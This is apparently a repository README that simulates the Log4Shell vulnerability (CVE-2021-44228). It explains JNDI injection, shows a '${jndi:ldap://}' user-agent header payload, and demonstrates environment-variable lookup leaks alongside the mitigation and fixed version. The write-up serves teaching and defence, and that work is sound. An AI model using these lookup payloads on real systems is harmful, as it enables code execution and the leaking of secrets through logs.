[![Java CI](](

# CVE-2021-44228

This repository represents a simplified simulation of infamous [CVE-2021-44228]( issue.

Aside from system properties and other dictionary structures lookups, Apache Log4j also implements JNDI lookup feature for [various reasons](
The JNDI can obtain services from a number of service providers, such as [LDAP](, [DNS](, [Java RMI]( registry, etc.
The JNDI itself is a simple and insecure API that doesn't protect against service providers controlled by a 3rd party.
As long as the attacker controls a server publicly accessible through the malicious URL and is aware what is being logged by the application listening over a specific port,
they can abuse the log format to cause the application to load and execute arbitrary Java code through JNDI injection.
This can be passed through commonly logged request headers in either plain text or obfuscated form.

user-agent: ${jndi:ldap://}Apache Log4j was vulnerable to remote code execution vulnerability before the [`2.16.0`]( version came out 13rd of December and the authors have my due respect for their quick response.


# Example

The simulation is using environment variables instead of an LDAP server, as well as the log format supports the [Property substitution](
The principle is no different.

## Prerequisites

Java 11 and Maven are required, nevertheless Maven Wrapper is also included in the repository.

## Exploitation

The GitHub repository defines a repository secret `PASSWORD` that is set as an environment variable in the workflow `.github/workflow/ci.yml` file in order to make a secret available to an action.
To reproduce the issue locally a commonly used `JAVA_HOME` environment variable can be used.
The workflow builds and executes twoapplications with different Apache Log4j versions `2.14.1` and `2.16.0` and here is a sample execution on GitHub Actions: [Java CI #7](

### Apache Log4j 2.14.1

This version is vulnerable to the attack. Follow these steps to reproduce:

1. `mvn clean install -f log4j-2.14.1`
1. `java -jar .\log4j-2.14.1\target\log4j-2.14.1.jar '${env:JAVA_HOME:-}'`

   The environment variable appears logged:> `args[0] = C:\Program Files\Java\jdk-11.0.11`

Here is a screenshot from GitHub action just for the case the actual run is removed automatically:


Note that once you try to print out secrets to the log, GitHub automatically redacts them and the values are masked and displayed as `***`.
The property was, however, substituted.

#### Mitigation

A temporary and partial workaround is instructed as adding the `-Dlog4j2.formatMsgNoLookups=True` JVM parameter, therefore it is needed to restart all the nodes of application.

1. `mvn clean install -f log4j-2.14.1`
1. `java "-Dlog4j2.formatMsgNoLookups=True" -jar .\log4j-2.14.1\target\log4j-2.14.1.jar '${env:JAVA_HOME:-}'`

   No property substitution happens:

   > `args[0] = ${env:JAVA_HOME:-}`

Again, here is ascreenshot from GitHub Actions:


### Apache Log4j 2.16.0

The issue was fixed in Log4j `2.12.2` (Java 7) and Log4j `2.16.0` (Java 8) by the Log4j Security Team.

1. `mvn clean install -f log4j-2.16.0`
1. `java -jar .\log4j-2.16.0\target\log4j-2.16.0.jar '${env:JAVA_HOME:-}'`

   No property substitution happens:

   > `args[0]= ${env:JAVA_HOME:-}`

Again, here is ascreenshot from GitHub Actions: